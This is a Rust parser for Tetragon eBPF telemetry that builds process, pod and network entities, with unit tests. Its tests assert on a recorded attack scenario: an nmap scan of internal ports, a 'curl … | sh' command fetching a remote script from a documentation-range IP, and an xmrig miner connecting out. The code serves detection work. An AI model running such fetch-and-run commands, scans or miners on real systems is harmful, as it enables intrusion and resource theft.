//! Tetragon events (`tetra getevents -o json`, the `export-stdout` container,
//! `/var/run/cilium/tetragon/tetragon.log`).
//!
//! Why this module looks the way it does:
//!
//! * Tetragon is telemetry, not detection: every record becomes an `info`
//!   event of kind telemetry. What makes it valuable is the process tree and
//!   the Kubernetes context attached to each record, so most of the work is
//!   turning `process`/`parent` and `pod` into entities whose keys meet
//!   Falco's (same `process_key` scope, pid and full binary path) and the
//!   Kubernetes objects' (full container id, pod `ns/name`, workload).
//! * The export is protobuf JSON: zero values are omitted (an exit `status`
//!   of 0 is simply absent), 64-bit integers are strings, and other
//!   pipelines re-encode 32-bit ones as strings too. Every number is read
//!   with [`u64_of`], which takes both.
//! * Export filters may drop any field, so nothing but the event key itself
//!   is required. Raw bytes identify a record (`dedup_key` is `None`):
//!   Tetragon does not emit one record twice.

use crate::attack;
use crate::entity;
use crate::formats::{str_of, strict, u64_of, RecordError};
use crate::model::{EntityKind, EntityRef, EventKind, NewEvent, Severity, Source};
use crate::time;
use serde_json::{Map, Value};

/// The event keys of `GetEventsResponse` (plus the legacy Isovalent
/// `process_connect`); a record carries exactly one.
pub const EVENT_KEYS: &[&str] = &[
    "process_exec",
    "process_exit",
    "process_kprobe",
    "process_tracepoint",
    "process_uprobe",
    "process_lsm",
    "process_loader",
    "process_throttle",
    "process_usdt",
    "process_connect",
];

/// `auid` when no login user was ever set (`(uid_t)-1`).
const AUID_UNSET: u64 = 4_294_967_295;

/// Whether a JSON object is a Tetragon event: exactly one known event key
/// holding an object, and a `time`.
pub fn sniff(obj: &Map<String, Value>) -> bool {
    obj.contains_key("time")
        && EVENT_KEYS
            .iter()
            .filter(|k| matches!(obj.get(**k), Some(Value::Object(_))))
            .count()
            == 1
}

/// Parses one Tetragon event into a telemetry event.
pub fn parse(raw: &[u8]) -> Result<NewEvent, RecordError> {
    let value = strict::value(raw)?;
    let obj = value
        .as_object()
        .ok_or_else(|| RecordError::new("Tetragon event is not a JSON object"))?;
    let present: Vec<&str> = EVENT_KEYS
        .iter()
        .copied()
        .filter(|k| obj.contains_key(*k))
        .collect();
    let key = match present.as_slice() {
        [one] => *one,
        [] => {
            return Err(RecordError::new(format!(
                "no Tetragon event key (expected one of {})",
                EVENT_KEYS.join(", ")
            )))
        }
        many => {
            return Err(RecordError::new(format!(
                "several Tetragon event keys: {}",
                many.join(", ")
            )))
        }
    };
    let body = obj
        .get(key)
        .and_then(Value::as_object)
        .ok_or_else(|| RecordError::new(format!("Tetragon `{}` is not an object", key)))?;

    let node = str_of(obj.get("node_name"));
    let cluster = str_of(obj.get("cluster_name"));
    let process = body
        .get("process")
        .and_then(Value::as_object)
        .map(ProcInfo::read);
    let parent = body
        .get("parent")
        .and_then(Value::as_object)
        .map(ProcInfo::read);

    let mut ev = NewEvent::new(Source::Tetragon, EventKind::Telemetry, key);
    ev.severity = Severity::Info;
    ev.rule = Some(key.to_string());
    ev.time_ns = str_of(obj.get("time"))
        .and_then(time::parse_rfc3339)
        .or_else(|| str_of(body.get("time")).and_then(time::parse_rfc3339));
    ev.field("event_type", key);

    // --- where: cluster, node, and the process's pod ------------------------
    if let Some(cluster) = cluster {
        ev.entity(EntityRef::new(EntityKind::Cluster, cluster, "cluster"));
        ev.field("cluster", cluster);
    }
    if let Some(node) = node {
        let labels = obj.get("node_labels").filter(|v| v.is_object()).cloned();
        ev.entity(EntityRef::new(EntityKind::Node, node, "node").attr("labels", labels));
        ev.field("node", node);
    }
    if let Some(p) = &process {
        add_kubernetes_context(&mut ev, p);
    }

    // --- the process and its parent ------------------------------------------
    let bin = process
        .as_ref()
        .and_then(|p| p.binary)
        .unwrap_or("unknown binary");
    if let Some(p) = &process {
        if let Some(key) = p.key(node) {
            ev.entity(p.entity(key, "process"));
        }
        ev.field("exe", p.binary);
        ev.field("cmdline", p.cmdline.clone());
        ev.field("pid", p.pid);
        ev.field("uid", p.uid);
        ev.field("auid", p.auid);
        ev.field("cwd", p.cwd);
        ev.field("exec_id", p.exec_id);
        ev.field("parent_exec_id", p.parent_exec_id);
        ev.field("start_time", p.start_time);
        if let Some(c) = &p.cmdline {
            ev.add_search(c);
        }
    }
    if let Some(pp) = &parent {
        if let Some(key) = pp.key(node) {
            ev.entity(pp.entity(key, "parent-process"));
        }
        ev.field("ppid", pp.pid);
        ev.field("parent_exe", pp.binary);
        ev.field("parent_cmdline", pp.cmdline.clone());
        if let Some(c) = &pp.cmdline {
            ev.add_search(c);
        }
    }
    if process.is_none() {
        // Without a process block, the parent's pod is the best context.
        if let Some(pp) = &parent {
            add_kubernetes_context(&mut ev, pp);
        }
    }

    // --- what happened ---------------------------------------------------------
    let mut net = Net::default();
    let mut files: Vec<(String, Option<String>)> = Vec::new();
    if let Some(args) = body.get("args").and_then(Value::as_array) {
        read_args(args, &mut net, &mut files);
        ev.field("args", Value::Array(args.clone()));
    }
    let policy = str_of(body.get("policy_name"));
    ev.field("policy", policy);
    ev.field("action", str_of(body.get("action")));
    ev.field("return_action", str_of(body.get("return_action")));
    ev.field("policy_message", str_of(body.get("message")));
    if let Some(ret) = body.get("return").filter(|v| !v.is_null()) {
        ev.field("return", ret.clone());
    }
    let tags: Vec<&str> = body
        .get("tags")
        .and_then(Value::as_array)
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    if !tags.is_empty() {
        // Tags are the tracing policy author's; ATT&CK ids among them are kept.
        let (tactics, techniques) = attack::classify_tags(tags.iter().copied());
        ev.tactics = tactics;
        ev.techniques = techniques;
        ev.field(
            "tags",
            tags.iter().map(|t| Value::from(*t)).collect::<Vec<_>>(),
        );
    }

    let title = match key {
        "process_exec" => format!("exec {}", bin),
        "process_exit" => {
            let signal = str_of(body.get("signal"));
            // Protobuf JSON omits a zero status: absent means 0.
            let status = u64_of(body.get("status")).unwrap_or(0);
            ev.field("signal", signal);
            ev.field("status", status);
            match signal {
                Some(sig) => format!("exit {} ({})", bin, sig),
                None => format!("exit {} (status {})", bin, status),
            }
        }
        "process_kprobe" | "process_lsm" => {
            let function = str_of(body.get("function_name")).unwrap_or(key);
            ev.field("function", str_of(body.get("function_name")));
            format!("{} by {}{}", function, bin, target_suffix(&net, &files))
        }
        "process_tracepoint" => {
            let subsys = str_of(body.get("subsys"));
            let event = str_of(body.get("event"));
            ev.field("subsys", subsys);
            ev.field("tracepoint", event);
            let name = match (subsys, event) {
                (Some(s), Some(e)) => format!("{}/{}", s, e),
                (None, Some(e)) => e.to_string(),
                _ => "tracepoint".to_string(),
            };
            ev.field("function", name.clone());
            format!(
                "tracepoint {} by {}{}",
                name,
                bin,
                target_suffix(&net, &files)
            )
        }
        "process_uprobe" | "process_usdt" => {
            let path = str_of(body.get("path"));
            let symbol = str_of(body.get("symbol")).or_else(|| str_of(body.get("name")));
            ev.field("function", symbol);
            if let Some(p) = path {
                files.push((p.to_string(), None));
            }
            let what = if key == "process_uprobe" {
                "uprobe"
            } else {
                "usdt"
            };
            format!(
                "{} {} in {} by {}",
                what,
                symbol.unwrap_or("?"),
                path.unwrap_or("?"),
                bin
            )
        }
        "process_loader" => {
            let path = str_of(body.get("path"));
            if let Some(p) = path {
                files.push((p.to_string(), None));
            }
            format!("loader {} by {}", path.unwrap_or("?"), bin)
        }
        "process_throttle" => {
            let kind = str_of(body.get("type")).unwrap_or("THROTTLE_UNKNOWN");
            let cgroup = str_of(body.get("cgroup"));
            ev.field("throttle", kind);
            ev.field("cgroup", cgroup);
            format!("throttle {} {}", kind, cgroup.unwrap_or(""))
                .trim_end()
                .to_string()
        }
        "process_connect" => {
            // Legacy Isovalent export: addresses at the top of the body.
            net.src_ip = net
                .src_ip
                .take()
                .or_else(|| str_of(body.get("source_ip")).and_then(entity::ip));
            net.src_port = net.src_port.or_else(|| u64_of(body.get("source_port")));
            net.dst_ip = net
                .dst_ip
                .take()
                .or_else(|| str_of(body.get("destination_ip")).and_then(entity::ip));
            net.dst_port = net
                .dst_port
                .or_else(|| u64_of(body.get("destination_port")));
            format!("connect by {}{}", bin, target_suffix(&net, &files))
        }
        _ => format!("{} by {}", key, bin),
    };
    ev.title = title;

    // --- network and files -------------------------------------------------------
    if let Some(dst) = &net.dst_ip {
        ev.entity(
            EntityRef::new(EntityKind::Ip, dst.clone(), "destination-ip")
                .attr("port", net.dst_port),
        );
        ev.add_search(dst);
    }
    ev.field("src_ip", net.src_ip.clone());
    ev.field("src_port", net.src_port);
    ev.field("dst_ip", net.dst_ip.clone());
    ev.field("dst_port", net.dst_port);
    ev.field("protocol", net.protocol.clone());
    ev.field("family", net.family.clone());
    ev.field("sock_state", net.state.clone());
    for (path, permission) in &files {
        ev.entity(
            EntityRef::new(EntityKind::File, path.clone(), "file")
                .attr("permission", permission.clone()),
        );
        ev.add_search(path);
    }
    if let Some((path, permission)) = files.first() {
        ev.field("file_path", path.clone());
        ev.field("file_permission", permission.clone());
    }
    if let Some(policy) = policy {
        ev.add_search(policy);
    }

    // A sentence for the timeline: what, and where.
    let what = match key {
        "process_exec" => process
            .as_ref()
            .and_then(|p| p.cmdline.clone())
            .unwrap_or_else(|| ev.title.clone()),
        _ => ev.title.clone(),
    };
    let pod = process.as_ref().and_then(|p| p.pod_key());
    ev.message = match (pod, node) {
        (Some(pod), Some(node)) => format!("{} in pod {} on {}", what, pod, node),
        (Some(pod), None) => format!("{} in pod {}", what, pod),
        (None, Some(node)) => format!("{} on {}", what, node),
        (None, None) => what,
    };
    Ok(ev)
}

// ---------------------------------------------------------------------------
// Process blocks
// ---------------------------------------------------------------------------

/// What the importer needs from a Tetragon `Process` block.
struct ProcInfo<'a> {
    exec_id: Option<&'a str>,
    parent_exec_id: Option<&'a str>,
    pid: Option<u64>,
    uid: Option<u64>,
    /// `None` when unset (4294967295) or absent.
    auid: Option<u64>,
    cwd: Option<&'a str>,
    binary: Option<&'a str>,
    cmdline: Option<String>,
    start_time: Option<&'a str>,
    pod: Option<&'a Map<String, Value>>,
    /// Full id from `pod.container.id`, else the 12-hex short form of the
    /// `docker` prefix (the form Falco uses, so the store can join them).
    container_id: Option<String>,
}

impl<'a> ProcInfo<'a> {
    fn read(p: &'a Map<String, Value>) -> ProcInfo<'a> {
        let binary = str_of(p.get("binary"));
        let arguments = str_of(p.get("arguments"));
        let cmdline = match (binary, arguments) {
            (Some(b), Some(a)) => Some(format!("{} {}", b, a)),
            (Some(b), None) => Some(b.to_string()),
            (None, Some(a)) => Some(a.to_string()),
            (None, None) => None,
        };
        let pod = p.get("pod").and_then(Value::as_object);
        let container_id = pod
            .and_then(|pod| pod.get("container"))
            .and_then(|c| str_of(c.get("id")))
            .and_then(entity::container_id)
            .or_else(|| {
                str_of(p.get("docker"))
                    .and_then(entity::container_id)
                    .map(|id| entity::short_container_id(&id).to_string())
            });
        ProcInfo {
            exec_id: str_of(p.get("exec_id")),
            parent_exec_id: str_of(p.get("parent_exec_id")),
            pid: u64_of(p.get("pid")),
            uid: u64_of(p.get("uid")),
            auid: u64_of(p.get("auid")).filter(|a| *a != AUID_UNSET),
            cwd: str_of(p.get("cwd")),
            binary,
            cmdline,
            start_time: str_of(p.get("start_time")),
            pod,
            container_id,
        }
    }

    /// The process key shared with Falco: container (or node), pid, binary.
    fn key(&self, node: Option<&str>) -> Option<String> {
        let scope = self.container_id.as_deref().or(node).unwrap_or("host");
        Some(entity::process_key(scope, self.pid?, self.binary?))
    }

    fn entity(&self, key: String, role: &str) -> EntityRef {
        let name = self.binary.map(|b| b.rsplit('/').next().unwrap_or(b));
        EntityRef::new(EntityKind::Process, key, role)
            .attr("pid", self.pid)
            .attr("name", name)
            .attr("exe", self.binary)
            .attr("cmdline", self.cmdline.clone())
            .attr("cwd", self.cwd)
            .attr("uid", self.uid)
            .attr("auid", self.auid)
            .attr("exec_id", self.exec_id)
            .attr("start_time", self.start_time)
    }

    fn pod_str(&self, key: &str) -> Option<&'a str> {
        self.pod.and_then(|p| str_of(p.get(key)))
    }

    fn pod_key(&self) -> Option<String> {
        entity::pod_key(self.pod_str("namespace")?, self.pod_str("name")?)
    }
}

/// Namespace, pod, workload, container and image of the process's pod.
fn add_kubernetes_context(ev: &mut NewEvent, p: &ProcInfo) {
    let namespace = p.pod_str("namespace");
    let pod_name = p.pod_str("name");
    if let Some(ns) = namespace {
        ev.entity(EntityRef::new(EntityKind::Namespace, ns, "namespace"));
        ev.field("namespace", ns);
    }
    if let (Some(key), Some(ns), Some(name)) = (p.pod_key(), namespace, pod_name) {
        let labels = p
            .pod
            .and_then(|pod| pod.get("pod_labels"))
            .filter(|v| v.is_object())
            .cloned();
        ev.entity(
            EntityRef::new(EntityKind::Pod, key.clone(), "pod")
                .attr("namespace", ns)
                .attr("name", name)
                .attr("uid", p.pod_str("uid"))
                .attr("labels", labels),
        );
        ev.field("pod", name);
        ev.add_search(&key);
    }
    let workload = p.pod_str("workload");
    let workload_kind = p.pod_str("workload_kind");
    if let Some(key) = workload
        .zip(workload_kind)
        .and_then(|(w, k)| entity::workload_key(namespace, k, w))
    {
        ev.entity(
            EntityRef::new(EntityKind::Workload, key.clone(), "owner")
                .attr("kind", workload_kind)
                .attr("name", workload)
                .attr("namespace", namespace),
        );
        ev.field("workload", key);
    }

    let container = p
        .pod
        .and_then(|pod| pod.get("container"))
        .and_then(Value::as_object);
    let container_name = container.and_then(|c| str_of(c.get("name")));
    if let Some(id) = &p.container_id {
        ev.entity(
            EntityRef::new(EntityKind::Container, id.clone(), "container")
                .attr("id", id.as_str())
                .attr("name", container_name),
        );
        ev.field("container_id", id.clone());
    }
    ev.field("container_name", container_name);

    let image = container
        .and_then(|c| c.get("image"))
        .and_then(Value::as_object);
    let image_name = image.and_then(|i| str_of(i.get("name")));
    let image_id = image.and_then(|i| str_of(i.get("id")));
    // `id` is `repo@sha256:…`; some runtimes give a bare `sha256:…`, which is
    // a digest too.
    let by_id = image_id.and_then(|id| {
        if id.starts_with("sha256:") {
            entity::image(&format!("@{}", id))
        } else {
            entity::image(id)
        }
    });
    let reference = image_name.and_then(entity::image).or_else(|| by_id.clone());
    if let Some((reference, digest)) = reference {
        let digest = by_id.and_then(|(_, d)| d).or(digest);
        ev.entity(
            EntityRef::new(EntityKind::Image, reference.clone(), "image")
                .attr("digest", digest.clone()),
        );
        ev.field("image", reference);
        ev.field("image_digest", digest);
    }
}

// ---------------------------------------------------------------------------
// Arguments of kprobes, tracepoints, LSM hooks and uprobes
// ---------------------------------------------------------------------------

#[derive(Default)]
struct Net {
    src_ip: Option<String>,
    src_port: Option<u64>,
    dst_ip: Option<String>,
    dst_port: Option<u64>,
    protocol: Option<String>,
    family: Option<String>,
    state: Option<String>,
}

/// Picks the socket ends and file paths out of `args[]`; the first socket
/// argument wins. Other argument kinds stay in the `args` field as they are.
fn read_args(args: &[Value], net: &mut Net, files: &mut Vec<(String, Option<String>)>) {
    for arg in args.iter().filter_map(Value::as_object) {
        if let Some(sock) = arg
            .get("sock_arg")
            .or_else(|| arg.get("skb_arg"))
            .and_then(Value::as_object)
        {
            if net.dst_ip.is_none() && net.src_ip.is_none() {
                net.src_ip = str_of(sock.get("saddr")).and_then(entity::ip);
                net.dst_ip = str_of(sock.get("daddr")).and_then(entity::ip);
                net.src_port = u64_of(sock.get("sport"));
                net.dst_port = u64_of(sock.get("dport"));
                net.protocol = str_of(sock.get("protocol")).map(protocol_name);
                net.family = str_of(sock.get("family")).map(str::to_string);
                net.state = str_of(sock.get("state")).map(str::to_string);
            }
        } else if let Some(sa) = arg.get("sockaddr_arg").and_then(Value::as_object) {
            if net.dst_ip.is_none() {
                net.dst_ip = str_of(sa.get("addr")).and_then(entity::ip);
                net.dst_port = u64_of(sa.get("port"));
                net.family = str_of(sa.get("family")).map(str::to_string);
            }
        } else if let Some(file) = ["file_arg", "path_arg", "linux_binprm_arg"]
            .iter()
            .find_map(|k| arg.get(*k))
            .and_then(Value::as_object)
        {
            if let Some(path) = str_of(file.get("path")) {
                files.push((
                    path.to_string(),
                    str_of(file.get("permission")).map(str::to_string),
                ));
            }
        }
    }
}

/// `IPPROTO_TCP` → `tcp`; other spellings are kept, lower-cased.
fn protocol_name(p: &str) -> String {
    p.strip_prefix("IPPROTO_").unwrap_or(p).to_ascii_lowercase()
}

/// ` to 198.51.100.77:4444` or ` on /tmp/.x/xmrig` for titles.
fn target_suffix(net: &Net, files: &[(String, Option<String>)]) -> String {
    match (&net.dst_ip, net.dst_port, files.first()) {
        (Some(ip), Some(port), _) if ip.contains(':') => format!(" to [{}]:{}", ip, port),
        (Some(ip), Some(port), _) => format!(" to {}:{}", ip, port),
        (Some(ip), None, _) => format!(" to {}", ip),
        (None, _, Some((path, _))) => format!(" on {}", path),
        _ => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::test_support::{entity, obj};

    const EVENTS: &str = include_str!("../../fixtures/samples/tetragon/events.jsonl");
    const STRING_INTS: &str = include_str!("../../fixtures/samples/tetragon/string-ints.jsonl");

    const NODE1: &str = "aks-nodepool1-31415926-vmss000001";
    const CART_CONTAINER: &str = "b9f0313cb843326058bbfd7a699dc8dbb6880575d7bd7720ab86e0bb3135e71e";

    fn parse_str(s: &str) -> NewEvent {
        parse(s.as_bytes()).unwrap_or_else(|e| panic!("{}: {}", e, s))
    }

    fn events() -> Vec<NewEvent> {
        EVENTS.lines().map(parse_str).collect()
    }


    fn field<'a>(ev: &'a NewEvent, name: &str) -> Option<&'a Value> {
        ev.fields.get(name)
    }

    #[test]
    fn sniff_wants_exactly_one_event_key_and_a_time() {
        for line in EVENTS.lines().chain(STRING_INTS.lines()) {
            assert!(sniff(&obj(line)), "{}", line);
        }
        assert!(!sniff(&obj(r#"{"process_exec":{"process":{}}}"#)));
        assert!(!sniff(&obj(
            r#"{"process_exec":{},"process_exit":{},"time":"2026-11-20T09:00:00Z"}"#
        )));
        assert!(!sniff(&obj(
            r#"{"rule":"r","priority":"Notice","output":"o","time":"x"}"#
        )));
        assert!(!sniff(&obj(
            r#"{"kind":"Event","auditID":"a","stage":"ResponseComplete"}"#
        )));
    }

    #[test]
    fn every_sample_is_info_telemetry_without_dedup_key() {
        for ev in events().iter().chain(
            STRING_INTS
                .lines()
                .map(parse_str)
                .collect::<Vec<_>>()
                .iter(),
        ) {
            assert_eq!(ev.source, Source::Tetragon);
            assert_eq!(ev.kind, EventKind::Telemetry);
            assert_eq!(ev.severity, Severity::Info);
            assert_eq!(ev.dedup_key, None);
            assert!(ev.time_ns.is_some());
        }
    }

    #[test]
    fn exec_gives_title_cmdline_and_the_whole_kubernetes_context() {
        let ev = &events()[0];
        assert_eq!(ev.title, "exec /usr/bin/nmap");
        assert_eq!(ev.rule.as_deref(), Some("process_exec"));
        assert_eq!(
            ev.time_ns,
            time::parse_rfc3339("2026-11-20T09:44:15.208790114Z")
        );
        assert_eq!(
            ev.fields["cmdline"],
            "/usr/bin/nmap -sS -p 6379,2375,10250 10.244.0.0/16"
        );
        assert_eq!(ev.fields["pid"], 31877);
        assert_eq!(ev.fields["ppid"], 31544);
        assert_eq!(ev.fields["uid"], 0);
        assert_eq!(ev.fields["parent_exe"], "/bin/sh");
        assert_eq!(ev.fields["cwd"], "/app");
        assert!(ev
            .message
            .contains("in pod shop/cart-7f9c6d8b5-x2k4q on aks-nodepool1-31415926-vmss000001"));
        // auid 4294967295 means "never set": omitted.
        assert!(field(ev, "auid").is_none());

        assert_eq!(
            entity(ev, EntityKind::Cluster, "cluster").unwrap().key,
            "aks-shop-prod"
        );
        assert_eq!(entity(ev, EntityKind::Node, "node").unwrap().key, NODE1);
        assert_eq!(
            entity(ev, EntityKind::Namespace, "namespace").unwrap().key,
            "shop"
        );
        let pod = entity(ev, EntityKind::Pod, "pod").unwrap();
        assert_eq!(pod.key, "shop/cart-7f9c6d8b5-x2k4q");
        assert_eq!(pod.attrs["uid"], "6f1c2a9e-4b7d-4e21-9c3a-5d8e7f1a2b3c");
        assert_eq!(pod.attrs["labels"]["app"], "cart");
        assert_eq!(
            entity(ev, EntityKind::Workload, "owner").unwrap().key,
            "shop/Deployment/cart"
        );
        let c = entity(ev, EntityKind::Container, "container").unwrap();
        assert_eq!(c.key, CART_CONTAINER);
        assert_eq!(c.attrs["name"], "cart");
        let image = entity(ev, EntityKind::Image, "image").unwrap();
        assert_eq!(image.key, "shopregistry.azurecr.io/shop/cart:2.3.1");
        assert_eq!(
            image.attrs["digest"],
            "sha256:a72b8526e8d7f59e27cf55b391ecdf35b4fbca1ec1d672736bc0f95e1ffcded4"
        );

        let p = entity(ev, EntityKind::Process, "process").unwrap();
        // Same key Falco's "Launch Suspicious Network Tool" alert builds.
        assert_eq!(p.key, "b9f0313cb843:31877:/usr/bin/nmap");
        assert_eq!(
            p.attrs["exec_id"],
            "YWtzLW5vZGVwb29sMS0zMTQxNTkyNi12bXNzMDAwMDAxOjQxMDkzOTE1MzE4NjkzOjMxODc3"
        );
        assert_eq!(p.attrs["name"], "nmap");
        assert!(p.attrs.get("auid").is_none());
        let parent = entity(ev, EntityKind::Process, "parent-process").unwrap();
        assert_eq!(parent.key, "b9f0313cb843:31544:/bin/sh");
    }

    #[test]
    fn kprobe_tcp_connect_names_the_destination_ip_and_port() {
        let ev = &events()[1];
        assert_eq!(ev.title, "tcp_connect by /usr/bin/nmap to 10.244.0.12:6379");
        assert_eq!(ev.fields["function"], "tcp_connect");
        assert_eq!(ev.fields["src_ip"], "10.244.1.23");
        assert_eq!(ev.fields["src_port"], 41766);
        assert_eq!(ev.fields["dst_ip"], "10.244.0.12");
        assert_eq!(ev.fields["dst_port"], 6379);
        assert_eq!(ev.fields["protocol"], "tcp");
        assert_eq!(ev.fields["policy"], "monitor-network-activity");
        assert_eq!(ev.fields["action"], "KPROBE_ACTION_POST");
        let ip = entity(ev, EntityKind::Ip, "destination-ip").unwrap();
        assert_eq!(ip.key, "10.244.0.12");
        assert_eq!(ip.attrs["port"], 6379);
        // The 64-bit socket cookie stays a string, untouched, in the args.
        assert_eq!(
            ev.fields["args"][0]["sock_arg"]["cookie"],
            "18446623887337437248"
        );
    }

    #[test]
    fn miner_pool_connection_is_found() {
        let ev = events()
            .into_iter()
            .find(|e| field(e, "dst_port") == Some(&Value::from(4444)))
            .unwrap();
        assert_eq!(ev.fields["dst_ip"], "198.51.100.77");
        assert_eq!(
            entity(&ev, EntityKind::Process, "process").unwrap().key,
            "b9f0313cb843:32461:/tmp/.x/xmrig"
        );
        assert_eq!(ev.fields["cwd"], "/tmp/.x");
    }

    #[test]
    fn exit_without_status_means_status_zero() {
        let ev = &events()[2];
        assert_eq!(ev.rule.as_deref(), Some("process_exit"));
        assert_eq!(ev.fields["status"], 0);
        assert!(field(ev, "signal").is_none());
        assert_eq!(ev.title, "exit /usr/bin/nmap (status 0)");
    }

    #[test]
    fn kprobe_file_argument_gives_a_file_entity_and_tags() {
        let ev = events()
            .into_iter()
            .find(|e| field(e, "function") == Some(&Value::from("security_file_permission")))
            .unwrap();
        assert_eq!(
            ev.title,
            "security_file_permission by /bin/sh on /tmp/.x/xmrig"
        );
        let f = entity(&ev, EntityKind::File, "file").unwrap();
        assert_eq!(f.key, "/tmp/.x/xmrig");
        assert_eq!(f.attrs["permission"], "-rwxr-xr-x");
        assert_eq!(ev.fields["file_path"], "/tmp/.x/xmrig");
        assert_eq!(ev.fields["return"]["int_arg"], 0);
        assert_eq!(ev.techniques, vec!["T1105"]);
        assert_eq!(ev.tactics, vec!["TA0005"]);
        // Parent here is the `sh -c "curl … | sh"`.
        assert_eq!(
            ev.fields["parent_cmdline"],
            "/bin/sh -c \"curl -s http://198.51.100.23/x.sh | sh\""
        );
    }

    #[test]
    fn tracepoint_is_generic_telemetry_titled_from_its_event() {
        let ev = events()
            .into_iter()
            .find(|e| e.rule.as_deref() == Some("process_tracepoint"))
            .unwrap();
        assert_eq!(ev.title, "tracepoint syscalls/sys_enter_kill by /bin/sh");
        assert_eq!(ev.fields["function"], "syscalls/sys_enter_kill");
        assert_eq!(ev.fields["args"][1]["int_arg"], 9);
        assert_eq!(ev.fields["policy"], "sys-kill");
    }

    #[test]
    fn integers_given_as_strings_are_read_as_numbers() {
        let ev = parse_str(STRING_INTS.lines().next().unwrap());
        assert_eq!(ev.fields["pid"], 32461);
        assert_eq!(ev.fields["uid"], 0);
        assert_eq!(ev.fields["ppid"], 32419);
        assert!(field(&ev, "auid").is_none(), "\"4294967295\" is unset too");
        assert_eq!(ev.fields["status"], 137);
        assert_eq!(ev.fields["signal"], "SIGKILL");
        assert_eq!(ev.title, "exit /tmp/.x/xmrig (SIGKILL)");
        assert_eq!(
            entity(&ev, EntityKind::Process, "process").unwrap().key,
            "b9f0313cb843:32461:/tmp/.x/xmrig"
        );
    }

    #[test]
    fn throttle_without_process_still_parses() {
        let ev = parse_str(STRING_INTS.lines().nth(1).unwrap());
        assert_eq!(ev.rule.as_deref(), Some("process_throttle"));
        assert!(ev
            .title
            .starts_with("throttle THROTTLE_START cri-containerd-"));
        assert!(entity(&ev, EntityKind::Process, "process").is_none());
        assert_eq!(entity(&ev, EntityKind::Node, "node").unwrap().key, NODE1);
    }

    #[test]
    fn docker_prefix_without_pod_gives_a_short_container_id() {
        let ev = parse_str(STRING_INTS.lines().nth(2).unwrap());
        assert_eq!(ev.rule.as_deref(), Some("process_connect"));
        assert!(entity(&ev, EntityKind::Pod, "pod").is_none());
        let c = entity(&ev, EntityKind::Container, "container").unwrap();
        assert_eq!(c.key, "b9f0313cb843");
        assert_eq!(
            entity(&ev, EntityKind::Process, "process").unwrap().key,
            "b9f0313cb843:32461:/tmp/.x/xmrig"
        );
        // Legacy process_connect: addresses at the top of the body.
        assert_eq!(ev.title, "connect by /tmp/.x/xmrig to 198.51.100.77:4444");
        assert_eq!(
            entity(&ev, EntityKind::Ip, "destination-ip").unwrap().key,
            "198.51.100.77"
        );
        assert_eq!(ev.fields["src_ip"], "10.244.1.23");
        assert!(ev.message.ends_with(&format!("on {}", NODE1)));
    }

    #[test]
    fn host_process_is_scoped_by_node() {
        let ev = parse_str(
            r#"{"process_exec":{"process":{"pid":"1187","binary":"/usr/bin/python3.10","arguments":"-u bin/WALinuxAgent"}},
                "node_name":"aks-nodepool1-31415926-vmss000001","time":"2026-11-20T07:31:09.502113840Z"}"#,
        );
        assert_eq!(
            entity(&ev, EntityKind::Process, "process").unwrap().key,
            "aks-nodepool1-31415926-vmss000001:1187:/usr/bin/python3.10"
        );
        assert!(entity(&ev, EntityKind::Container, "container").is_none());
    }

    #[test]
    fn sockaddr_and_ipv6_arguments_are_understood() {
        let ev = parse_str(
            r#"{"process_kprobe":{"function_name":"security_socket_connect",
                "args":[{"sockaddr_arg":{"family":"AF_INET6","addr":"2001:db8::17","port":443}}]},
                "time":"2026-11-20T09:00:00Z"}"#,
        );
        assert_eq!(ev.fields["dst_ip"], "2001:db8::17");
        assert_eq!(
            ev.title,
            "security_socket_connect by unknown binary to [2001:db8::17]:443"
        );
    }

    #[test]
    fn malformed_records_are_errors_with_reasons() {
        assert!(parse(b"not json")
            .unwrap_err()
            .reason
            .contains("invalid JSON"));
        assert!(parse(b"[]")
            .unwrap_err()
            .reason
            .contains("not a JSON object"));
        assert!(parse(br#"{"time":"2026-11-20T09:00:00Z"}"#)
            .unwrap_err()
            .reason
            .contains("no Tetragon event key"));
        let two = parse(br#"{"process_exec":{},"process_exit":{},"time":"x"}"#).unwrap_err();
        assert!(
            two.reason
                .contains("several Tetragon event keys: process_exec, process_exit"),
            "{}",
            two
        );
        assert!(parse(br#"{"process_exec":"x","time":"x"}"#)
            .unwrap_err()
            .reason
            .contains("not an object"));
    }

    #[test]
    fn odd_values_never_panic() {
        let inputs: [&[u8]; 6] = [
            br#"{"process_exec":{}}"#,
            br#"{"process_exec":{"process":{"pid":-1,"uid":1.5,"binary":7,"pod":[]}},"time":5}"#,
            br#"{"process_kprobe":{"args":[null,1,{"sock_arg":null},{"file_arg":{"path":null}}],"return":null}}"#,
            br#"{"process_exit":{"process":{"pid":"99999999999999999999999"},"status":"-1"}}"#,
            br#"{"process_uprobe":{"path":"/lib/x.so","symbol":"SSL_write"}}"#,
            br#"{"process_loader":{"process":{"pod":{"container":{"image":{"id":"sha256:ABC"}}}}}}"#,
        ];
        for raw in inputs {
            let ev = parse(raw).unwrap();
            assert_eq!(ev.source, Source::Tetragon);
        }
        let loader = parse(inputs[5]).unwrap();
        assert_eq!(
            entity(&loader, EntityKind::Image, "image").unwrap().key,
            "sha256:abc"
        );
    }
}
